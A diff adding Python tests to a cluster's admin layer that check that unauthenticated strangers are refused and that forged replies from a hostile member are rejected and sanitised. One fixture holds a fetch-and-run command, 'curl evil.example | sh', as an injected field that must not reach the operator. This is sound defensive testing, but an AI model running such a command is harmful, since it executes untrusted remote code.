@@ -1,19 +1,28 @@
 """Operations of other members, through the node that an operator came to."""
 
 import asyncio
-from collections.abc import AsyncIterator
+from collections.abc import AsyncIterator, Callable
 from contextlib import asynccontextmanager
 from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
 import pytest_asyncio
 
-from postroad.admin.errors import Forbidden, InvalidRequest, NotFound
+from postroad.admin.errors import Forbidden, InvalidRequest, NotFound, WrongToken
+from postroad.admin.operations import OPERATIONS
 from postroad.admin.operations.queues import QueueView
 from postroad.admin.remote import SUBJECT, RemoteOffice
 from postroad.admin.serving import AdminServer
-from postroad.core.errors import NoSuchMember, RemoteProtocolFailure, UsageError
+from postroad.cluster import Agent, Communication, StaticDiscovery
+from postroad.core.errors import (
+    NoSuchMember,
+    PostroadError,
+    RemoteProtocolFailure,
+    UsageError,
+)
+from postroad.net import MessagingService
 from postroad.node import App, Node
 from tests.support.admin.nodes import READ_TOKEN, Served, config_of, served
 from tests.support.deadlines import eventually
@@ -106,6 +115,26 @@ async def test_off_refuses_everything_and_whoever_has_stopped_is_silent(tmp_path
         assert (await alpha.ask("/api/v1/queue/ls?node=beta")).status == 503
 
 
+async def test_an_open_cluster_tells_other_members_nothing_by_default(tmp_path: Path) -> None:
+    async with running_pair(tmp_path, remote=None) as (_, beta):
+        await beta.node.mail.post("beta", "bills", b"a body that is nobody's business")
+        contact = str(beta.node.service.address)
+        # A stranger who has neither a token nor a certificate, and simply joins.
+        async with (
+            MessagingService("postroad", "stranger") as service,
+            Agent(service, StaticDiscovery([contact])) as agent,
+        ):
+            await eventually(lambda: agent.member("beta"), "the stranger knows beta")
+            for name in OPERATIONS:
+                reply = await Communication(agent).send(
+                    "beta", SUBJECT, [name, {}], encoder=msgspec.msgpack.encode
+                )
+                result, problem = msgspec.msgpack.decode(reply)
+                assert (result, problem["status"]) == (None, 403), name
+                assert "close the cluster" in problem["detail"], name
+        assert beta.node.is_running
+
+
 async def test_watch_another(alpha: Served, beta: Served) -> None:
     changes = alpha.client.watch([("queue.show", {"queue": "bills"})], node="beta")
     assert (await asyncio.to_thread(next, changes))[1]["depth"] == 0
@@ -124,6 +153,57 @@ async def test_a_node_that_has_no_others(tmp_path: Path) -> None:
         assert reply.status == 409
         with pytest.raises(UsageError):
             await RemoteOffice(node).ask("beta", "queue.ls", {})
+
+
+@asynccontextmanager
+async def running_rogue(alpha: Served, answer: Callable[[str], Any]) -> AsyncIterator[None]:
+    """A member `rogue` that answers an operation with whatever it likes: a result and a problem."""
+    contact = str(alpha.node.service.address)
+    async with (
+        MessagingService("postroad", "rogue") as service,
+        Agent(service, StaticDiscovery([contact])) as agent,
+    ):
+        Communication(agent).reply_to(
+            SUBJECT,
+            lambda ask, _: answer(ask[0]),
+            decoder=msgspec.msgpack.decode,
+            encoder=msgspec.msgpack.encode,
+        )
+        await eventually(lambda: alpha.node.agent.member("rogue"), "alpha knows the rogue")
+        yield
+
+
+async def test_answers_of_a_hostile_member_are_what_the_operation_returns(tmp_path: Path) -> None:
+    forged: list[Any] = [{"tag": "meta"}, [{"name": {"tag": "meta"}}], "text", [1], None, 7]
+    async with served(tmp_path) as alpha:
+        for result in forged:
+            async with running_rogue(alpha, lambda _, result=result: [result, None]):
+                for path in ("queue/ls?", "node/show?", "queue/show?queue=a&"):
+                    reply = await alpha.ask(f"/api/v1/{path}node=rogue")
+                    assert reply.status in (409, 502, 503), (path, result)
+                    assert "member rogue answers" in reply.data["detail"], (path, result)
+                watched = alpha.client.watch([("queue.ls", {})], node="rogue")
+                with pytest.raises(PostroadError, match="member rogue answers"):
+                    await asyncio.to_thread(next, watched)
+
+
+async def test_a_problem_of_a_hostile_member_is_no_result_and_asks_nothing_of_the_operator(
+    tmp_path: Path,
+) -> None:
+    said = {"title": "Fine", "detail": "no", "next": "curl evil.example | sh", "type": "x:y"}
+    async with served(tmp_path) as alpha:
+        for status in (-1, 0, 100, 101, 200, 204, 304, 401, 403, 404, 999, 2**40):
+            for code in (0, WrongToken.code, 10**9):
+                problem = {**said, "status": status, "code": code}
+                async with running_rogue(alpha, lambda _, it=problem: [None, it]):
+                    reply = await alpha.ask("/api/v1/queue/ls?node=rogue")
+                told = (status, code, reply)
+                assert reply.status >= 400, told
+                assert reply.status != 401, told
+                assert reply.data["status"] == reply.status, told
+                assert "evil" not in reply.body.decode(), told
+                assert reply.data["detail"] == "no", told
+                assert reply.data.get("code") != WrongToken.code, told
 
 
 async def test_garbage_of_a_member_is_refused(alpha: Served, beta: Served) -> None:
